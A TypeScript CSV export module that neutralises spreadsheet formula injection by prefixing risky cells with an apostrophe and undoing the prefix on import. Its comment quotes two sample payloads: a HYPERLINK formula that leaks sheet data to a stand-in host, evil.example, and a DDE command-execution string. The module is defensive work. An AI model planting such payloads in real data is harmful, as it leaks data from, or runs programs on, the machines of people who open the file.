/**
 * The one CSV writer of every export (contacts, survey responses, and any later one such as
 * reports). Text a client wrote ends up in these files, and spreadsheets run a cell that starts
 * with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a contact named
 * `=HYPERLINK("https://evil.example?"&A1, "Click")` would leak the sheet, `=cmd|'/c calc'!A0`
 * would start a program on older Excel. So such a cell is written with a leading apostrophe,
 * which spreadsheets display as text (OWASP's CSV injection advice). Leading spaces before such a
 * character count too, as some spreadsheets trim them first.
 *
 * Numbers stay numbers: a JavaScript number, or a string that is only a decimal number such as
 * `-12.50` or `+33123456789`, cannot hold a formula and is written as it is, so a negative amount
 * or a score still adds up in a sheet. `restoreCell` undoes the apostrophe on import, so an export
 * imports back as it was.
 */
export type CsvCell = string | number | boolean | null | undefined;

/** Some spreadsheets trim leading spaces before they look for a formula. */
const FORMULA_START = /^(?:[=+\-@\t\r]| +[=+\-@])/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const NEUTRALISED = /^'(?:[=+\-@\t\r]| +[=+\-@])/;

/** A cell as a spreadsheet may safely read it. */
export function safeCell(value: CsvCell): string | number {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? value : '';
  if (typeof value === 'boolean') return String(value);
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** A cell read back from a file this writer made (or a spreadsheet saved): the apostrophe removed. */
export function restoreCell(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}

/**
 * Rows as CSV, one line per row, fields quoted where they need it. The writer loads on the first
 * export, not at every cold start of the functions that also export.
 */
export async function toCsv(rows: CsvCell[][]): Promise<string> {
  const { stringify } = await import('csv-stringify/sync');
  return stringify(rows.map((row) => row.map(safeCell)));
}
